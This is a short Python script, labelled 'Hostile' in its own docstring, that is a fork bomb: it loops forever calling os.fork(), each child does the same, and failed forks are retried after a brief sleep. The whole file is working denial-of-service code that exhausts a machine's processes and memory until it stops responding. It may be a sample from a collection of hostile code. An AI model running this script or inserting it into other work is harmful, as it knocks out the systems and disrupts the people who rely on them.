"""Hostile: forks without end; every child forks too, and a refused fork is simply tried again."""
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.001)
